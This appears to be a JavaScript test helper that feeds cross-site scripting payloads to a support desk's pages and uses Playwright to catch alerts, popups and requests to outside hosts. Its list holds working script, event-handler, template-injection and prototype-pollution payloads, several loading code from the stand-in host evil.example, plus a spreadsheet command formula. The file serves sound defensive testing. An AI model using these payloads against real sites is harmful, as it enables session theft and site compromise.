// What a customer writes who wants the desk's pages to do something for him. Whatever runs calls `alert`.

const TAGS = [
  'a',
  'audio',
  'body',
  'button',
  'details',
  'div',
  'form',
  'iframe',
  'img',
  'input',
  'marquee',
  'math',
  'object',
  'select',
  'style',
  'svg',
  'table',
  'textarea',
  'video',
  'x',
];
const EVENTS = [
  'onload',
  'onerror',
  'onfocus autofocus tabindex=1',
  'onmouseover',
  'ontoggle open',
  'onanimationstart',
  'onpointerenter',
];

const BY_HAND = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=//evil.example/pixel.png>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '`><img src=x onerror=alert`1`>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/>",
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<object data=//evil.example/x.swf>',
  '<embed src=javascript:alert(1)>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  "<style>@import '//evil.example/x.css'</style>",
  '<base href=//evil.example/>',
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  '<form action=//evil.example><input type=submit autofocus>',
  '<details open ontoggle=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<x contenteditable onblur=alert(1)>lose focus!',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '[clique](javascript:alert(1))',
  '![x](//evil.example/pixel.png)',
  '<javascript:alert(1)>',
  'https://evil.example/"onmouseover="alert(1)',
  'https://evil.example/<img src=x onerror=alert(1)>',
  'https://user:pass@evil.example/',
  'http://127.0.0.1:9090/metrics',
  '//evil.example/x',
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '{{7*7}} {{firstName}}',
  '*<b onclick=alert(1)>negrito</b>* _<i>x</i>_ ~x~ ```<script>alert(1)</script>```',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\u202E<gnp.exe onload=alert(1)\u202C',
  '\u200B<\u200Bscript>alert(1)</script>',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '__proto__',
  'constructor',
  '{"__proto__":{"polluted":1},"type":"html","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
  'Sussurro(Marina) <img src=x onerror=alert(1)>',
  'BEGIN:VCARD\r\nFN:<img src=x onerror=alert(1)>\r\nURL:javascript:alert(1)\r\nEND:VCARD',
  "=cmd|' /C calc'!A0",
];

const MADE = TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=alert(1) src=x href=x>`));

/** Every line; every fourth of those that are made from tags, unless all are wanted. */
export function hostileLines({ isFull = process.env.GUICHE_PROBE === 'full' } = {}) {
  return [...BY_HAND, ...MADE.filter((_, place) => isFull || place % 4 === 0)];
}

/** Watches a page: what ran, and who was called outside of the desk. */
export async function watchForHarm(page, base) {
  const harm = [];
  const own = new URL(base).host;
  await page.exposeFunction('reportHarm', (what) => harm.push(what));
  await page.addInitScript(() => {
    for (const name of ['alert', 'confirm', 'prompt', 'msgbox']) {
      globalThis[name] = (what) => globalThis.reportHarm(`${name}(${what})`);
    }
  });
  page.context().on('request', (request) => {
    const url = new URL(request.url());
    const isOwn = url.host === own || ['data:', 'blob:'].includes(url.protocol);
    if (!isOwn) harm.push(`a call to ${request.url()}`);
  });
  page.on('dialog', (dialog) => {
    harm.push(`a dialog: ${dialog.message()}`);
    return dialog.dismiss();
  });
  page.on('popup', (popup) => harm.push(`a window: ${popup.url()}`));
  return harm;
}
